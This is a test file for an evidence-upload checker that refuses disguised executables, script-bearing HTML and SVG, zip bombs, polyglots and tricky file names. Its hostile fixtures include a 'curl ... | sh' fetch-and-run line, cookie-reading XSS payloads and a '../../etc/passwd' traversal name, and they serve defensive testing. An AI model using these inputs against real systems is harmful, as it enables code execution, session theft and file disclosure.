// Evidence uploads through the checks into a file store: hostile and malformed files are each
// refused with their reason and leave nothing behind (no spool file, nothing stored); accepted files
// are kept and come back byte for byte.
//
// Decision: a JPEG named .png (or any real type under another accepted type's extension) is
// refused as a type mismatch rather than silently relabelled, because the name is what the
// commissioner's computer opens it by; the message tells the provider what to rename it to.
import { createHash } from 'node:crypto'
import { gzipSync } from 'node:zlib'
import { Document, Packer, Paragraph } from 'docx'
import { readdir } from 'node:fs/promises'
import { getFileStore } from '#app/file-store/file-store.server'
import { checkEvidenceFile } from '#app/services/compliance/store-evidence-file.server'
import { EVIDENCE_MAX_BYTES, EvidenceRejection, type TRejectionReason } from '#app/utils/file-sniffing.server'
import { storedKeys, useTemporaryFileStore } from '#test/support/file-store'
import { pdfBytes } from './support/demo-data'
import { makeDocm, makeXlsx, makeZip } from './fixtures/zip'

useTemporaryFileStore()

const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64')
// SOI, a JFIF APP0 segment and EOI: the structure file-type and the end-marker check read.
const JPEG = Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex')
const MZ = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64), Buffer.from('PE\0\0'), Buffer.alloc(200)])
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)])

const reportPdf = () => pdfBytes('Local Activity Report, Term 2 2026/27')

async function counts() {
  const spooled = await readdir(getFileStore().spoolDir).catch(() => [])
  return { spooled: spooled.length, stored: (await storedKeys()).length }
}

async function* chunked(bytes: Buffer, size = 256 * 1024) {
  for (let offset = 0; offset < bytes.length; offset += size) yield bytes.subarray(offset, offset + size)
}

/** 25 MB + 1 byte produced in 1 MB pieces, so the test itself never holds it all either. */
async function* oversize() {
  const megabyte = Buffer.alloc(1024 * 1024, 0x41)
  for (let sent = 0; sent < 25; sent++) yield megabyte
  yield Buffer.from('A')
}

async function store(filename: string, data: Buffer | AsyncIterable<Uint8Array>) {
  const checked = await checkEvidenceFile({ filename, data: Buffer.isBuffer(data) ? chunked(data) : data })
  const kept = await getFileStore().keep(checked.spooled)
  return { ...checked, key: kept.key }
}

describe('hostile and malformed evidence files are refused and nothing is stored', () => {
  const hostile: Array<[description: string, filename: string, content: () => Buffer | AsyncIterable<Uint8Array> | Promise<Buffer>, reason: TRejectionReason]> = [
    ['a Windows program renamed .pdf', 'report.pdf', () => MZ, 'executable'],
    ['a Windows program renamed .xlsx', 'figures.xlsx', () => MZ, 'executable'],
    ['a Linux ELF program renamed .csv', 'returns.csv', () => ELF, 'executable'],
    ['a shell script renamed .csv', 'attendance.csv', () => Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n'), 'executable'],
    ['an HTML page renamed .pdf', 'report.pdf', () => Buffer.from('<!DOCTYPE html><html><script>alert(document.cookie)</script></html>'), 'markup'],
    ['an HTML page renamed .csv', 'report.csv', () => Buffer.from('\uFEFF  <html><body onload="alert(1)">'), 'markup'],
    ['an SVG with script renamed .png', 'chart.png', () => Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'markup'],
    ['a plain zip renamed .docx', 'plan.docx', () => makeZip([{ name: 'notes.txt', content: 'hello' }]), 'archive'],
    ['a zip bomb (40 MB of zeros deflated) renamed .docx', 'plan.docx', () => makeZip([{ name: 'zeros.bin', content: Buffer.alloc(40 * 1024 * 1024), deflate: true }]), 'archive'],
    ['a macro-enabled Word document (DOCM) renamed .docx', 'plan.docx', () => makeDocm(), 'archive'],
    ['a gzip archive renamed .csv', 'returns.csv', () => gzipSync(Buffer.from('a,b\n1,2\n')), 'archive'],
    ['an empty file', 'empty.pdf', () => Buffer.alloc(0), 'empty'],
    ['25 MB + 1 byte', 'big.csv', () => oversize(), 'too_large'],
    ['a path traversal name', '../../etc/passwd.pdf', reportPdf, 'bad_name'],
    ['a Windows path name', 'C:\\Users\\pat\\report.pdf', reportPdf, 'bad_name'],
    ['a NUL byte in the name', 'report\u0000.pdf', reportPdf, 'bad_name'],
    ['a right-to-left override hiding .exe', 'invoice\u202Efdp.exe.pdf', reportPdf, 'bad_name'],
    ['an .exe extension', 'setup.exe', () => MZ, 'extension_not_accepted'],
    ['an .svg extension', 'chart.svg', () => Buffer.from('<svg/>'), 'extension_not_accepted'],
    ['a JPEG/zip polyglot (a zip appended to a JPEG)', 'photo.jpg', () => Buffer.concat([JPEG, makeZip([{ name: 'x.sh', content: '#!/bin/sh' }])]), 'trailing_data'],
    ['a PDF with an HTML page appended after %%EOF', 'report.pdf', async () => Buffer.concat([await reportPdf(), Buffer.from('\n<html><script>alert(1)</script></html>')]), 'trailing_data'],
    ['a CSV with NUL bytes', 'returns.csv', () => Buffer.from('pupil,attended\u0000\n1,0\u0000\n'), 'csv_not_text'],
    ['a CSV that is not UTF-8 text', 'returns.csv', () => Buffer.from([0x6e, 0x61, 0x6d, 0x65, 0x0a, 0xff, 0xfe, 0xc3, 0x28]), 'csv_not_text'],
    ['a JPEG named .png (decision: refused as a mismatch)', 'photo.png', () => JPEG, 'type_mismatch'],
    ['a PDF named .docx', 'plan.docx', reportPdf, 'type_mismatch'],
    ['a text file named .pdf', 'report.pdf', () => Buffer.from('This is not a PDF'), 'type_mismatch'],
  ]

  test.each(hostile)('%s', async (_description, filename, content, reason) => {
    const before = await counts()
    const data = await content()
    const attempt = store(filename, data)
    await expect(attempt).rejects.toBeInstanceOf(EvidenceRejection)
    await expect(attempt).rejects.toMatchObject({ reason })
    expect(await counts()).toEqual(before)
  })

  test('every rejection has a message a provider can act on', async () => {
    await expect(store('report.pdf', MZ)).rejects.toThrow('The file is a program; executable files are not accepted')
    await expect(store('photo.png', JPEG)).rejects.toThrow('The file is named as a PNG image but its contents are a JPEG image; rename it to .jpg if that is right')
    await expect(store('big.csv', oversize())).rejects.toThrow('The file is larger than 25 MB')
  })
})

describe('accepted evidence files', () => {
  const valid: Array<[filename: string, content: () => Buffer | Promise<Buffer>, kind: string, contentType: string]> = [
    ['Local Activity Report Term 2.pdf', reportPdf, 'pdf', 'application/pdf'],
    ['Budget plan.docx', async () => Buffer.from(await Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph('Budget plan 2026/27')] }] }))), 'docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ['KPI figures.xlsx', makeXlsx, 'xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
    ['attendance-2026-10.csv', () => Buffer.from('Pupil,Sessions attended,Sessions possible\r\nA1,38,40\r\n"B, 2",40,40\r\n'), 'csv', 'text/csv'],
    ['chart.PNG', () => PNG, 'png', 'image/png'],
    ['photo.jpeg', () => JPEG, 'jpg', 'image/jpeg'],
  ]

  test.each(valid)('%s is stored, and downloads with the same SHA-256', async (filename, content, kind, contentType) => {
    const bytes = await content()
    const stored = await store(filename, bytes)
    expect(stored).toMatchObject({ kind, contentType, size: bytes.length, sha256: createHash('sha256').update(bytes).digest('hex') })
    const download = createHash('sha256')
    for await (const chunk of (await getFileStore().open(stored.key)).stream) download.update(chunk as Buffer)
    expect(download.digest('hex')).toBe(stored.sha256)
  })

  test('exactly 25 MB is accepted', async () => {
    async function* exactly() {
      yield Buffer.from('Pupil,Mark\n')
      const row = Buffer.alloc(1024 * 1024, 0x31)
      for (let sent = 0; sent < 24; sent++) yield row
      yield Buffer.alloc(EVIDENCE_MAX_BYTES - 11 - 24 * 1024 * 1024, 0x32)
    }
    const stored = await store('big.csv', exactly())
    expect(stored.size).toBe(EVIDENCE_MAX_BYTES)
    await getFileStore().delete(stored.key)
  })
})
